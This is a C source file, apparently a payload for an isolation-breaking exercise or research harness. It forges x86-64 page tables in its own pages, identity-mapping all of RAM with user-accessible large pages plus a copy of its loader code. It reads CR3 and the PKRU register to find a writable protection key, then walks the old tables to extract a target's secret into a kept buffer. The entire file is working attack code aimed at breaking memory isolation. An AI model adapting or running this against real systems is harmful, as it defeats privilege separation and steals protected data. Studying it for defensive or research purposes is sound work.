/* Forges page tables in pages of its own, which lie at their own physical address: all of RAM at its own address, and at
 * the address of the code that loads them a copy of that code. With them it walks the old tables to T's secret. */
#include "abi.h"
#include "application.h"
#include "../../forbidden/forbidden.h"

#define PAGE_BYTES 4096
#define ENTRIES 512
#define LEAF 0x67               /* present, writable, U/S, accessed, dirty (SDM vol. 3A, "4-Level Paging") */
#define LARGE 0xE7              /* the same for 2 MiB */
#define LARGE_BYTES 0x200000
#define PAGES 8

enum { ROOT, LOW, LOW_LEAVES, HIGH, HIGH_MIDDLE, HIGH_LEAVES, CODE, KEPT };

extern const char forged_page[];
void walk_under(uint64_t forged, uint64_t old, uint64_t target, uint64_t *kept_frame);

/* A key that this program may write under: its own, or that of the interrupt pages. As bits 62:59 of an entry. */
static uint64_t open_key(void)
{
    uint32_t rights, key = 0;
    __asm__("rdpkru" : "=a"(rights) : "c"(0) : "rdx");
    while ((rights >> 2 * key & 3) != 0)
        key++;
    return (uint64_t)key << 59;
}

static uint64_t *page(uint64_t pages, int number)
{
    return (uint64_t *)(pages + (uint64_t)number * PAGE_BYTES);
}

static uint64_t index_at(const void *address, int level)
{
    return (uint64_t)(uintptr_t)address >> (12 + 9 * level) & (ENTRIES - 1);
}

void payload(uint64_t target, uint64_t *kept, uint64_t step)
{
    (void)step;
    uint64_t pages = (uint64_t)t_map(PAGES), key = open_key(), old;
    __asm__("mov %%cr3, %0" : "=r"(old));

    page(pages, ROOT)[0] = (uint64_t)(uintptr_t)page(pages, LOW) | LEAF;
    page(pages, LOW)[0] = (uint64_t)(uintptr_t)page(pages, LOW_LEAVES) | LEAF;
    for (uint64_t i = 0; i < ENTRIES; i++)
        page(pages, LOW_LEAVES)[i] = i * LARGE_BYTES | LARGE | key;

    page(pages, ROOT)[index_at(forged_page, 3)] = (uint64_t)(uintptr_t)page(pages, HIGH) | LEAF;
    page(pages, HIGH)[index_at(forged_page, 2)] = (uint64_t)(uintptr_t)page(pages, HIGH_MIDDLE) | LEAF;
    page(pages, HIGH_MIDDLE)[index_at(forged_page, 1)] = (uint64_t)(uintptr_t)page(pages, HIGH_LEAVES) | LEAF;
    page(pages, HIGH_LEAVES)[index_at(forged_page, 0)] = (uint64_t)(uintptr_t)page(pages, CODE) | LEAF;
    for (int i = 0; i < ENTRIES; i++)
        page(pages, CODE)[i] = ((const uint64_t *)forged_page)[i];

    walk_under((uint64_t)(uintptr_t)page(pages, ROOT), old, target, page(pages, KEPT));
    for (int i = 0; i < KEPT_WORDS; i++)
        kept[i] = page(pages, KEPT)[i];
}
